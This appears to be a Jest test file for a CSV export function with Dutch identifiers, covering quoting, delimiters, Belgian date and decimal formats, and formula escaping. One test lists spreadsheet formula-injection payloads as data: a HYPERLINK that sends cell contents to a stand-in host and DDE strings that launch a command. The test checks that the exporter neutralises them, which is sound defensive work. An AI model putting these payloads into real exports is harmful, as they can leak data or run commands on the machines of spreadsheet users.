import { naarCsv } from './csv';
import { naarTabel } from './tabel';

describe('naarCsv', () => {
  it('writes a header and one row per item, nested fields in one column, lists in one cell, quoting where needed', () => {
    const csv = naarCsv(
      naarTabel([
        {
          id: 's1',
          titel: 'Kruispunt, school',
          bal: { bij: 'dienst' },
          diensten: ['mobiliteit', 'awv'],
          open: true,
        },
        { id: 's2', titel: 'Zeg "stop" aan café', bal: { bij: 'raad' }, diensten: [], extra: 3 },
      ]),
      ',',
    );
    expect(csv.startsWith('\ufeff')).toBe(true);
    expect(csv.slice(1).split('\n')).toEqual([
      'Id,Titel,Bal bij,Diensten,Open,Extra',
      's1,"Kruispunt, school",dienst,mobiliteit; awv,ja,',
      's2,"Zeg ""stop"" aan café",raad,,,3',
      '',
    ]);
  });

  it('writes only the header row for an empty list when the columns are given', () => {
    expect(naarCsv(naarTabel([], undefined, ['id', 'titel']))).toBe('\ufeffId;Titel\n');
  });

  it('neutralises every cell a spreadsheet would read as a formula with a leading quote', () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
      "=cmd|' /C calc'!A0",
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '\uff1d1+1',
    ];
    const csv = naarCsv(naarTabel(payloads.map((titel) => ({ titel, lijst: [titel] }))), ',');
    const cellen = csv
      .slice(1)
      .split(/\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)
      .slice(1, -1)
      .flatMap((rij) => rij.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
      .map((cel) => (cel.startsWith('"') ? cel.slice(1, -1).replace(/""/g, '"') : cel));
    expect(cellen).toHaveLength(payloads.length * 2);
    for (const cel of cellen) expect(cel.startsWith("'")).toBe(true);
  });

  it('leaves numbers, negative ones included, and ordinary text as they are', () => {
    expect(naarCsv(naarTabel([{ n: -3, t: 'Kruispunt - school' }])).slice(1)).toBe(
      'N;T\n-3;Kruispunt - school\n',
    );
  });

  it('separates with ; by default, or with a tab, and writes times as a nl-BE spreadsheet reads them', () => {
    const items = [
      { titel: 'Kruispunt; school', ingediendOp: '2027-03-15T13:05:00.000Z', verwachteDatum: '2027-04-30' },
    ];
    expect(naarCsv(naarTabel(items)).slice(1)).toBe(
      'Titel;Ingediend op;Verwachte datum\n"Kruispunt; school";15-03-2027 14:05;30-04-2027\n',
    );
    expect(naarCsv(naarTabel(items), 'tab').slice(1).split('\n')[0]).toBe(
      'Titel\tIngediend op\tVerwachte datum',
    );
  });

  it('writes a decimal comma for a nl-BE spreadsheet, a decimal point with , between cells', () => {
    const tabel = naarTabel([{ graad: 0.5, verschil: -1.25 }]);
    expect(naarCsv(tabel).slice(1)).toBe('Graad;Verschil\n0,5;-1,25\n');
    expect(naarCsv(tabel, ',').slice(1)).toBe('Graad,Verschil\n0.5,-1.25\n');
  });
});
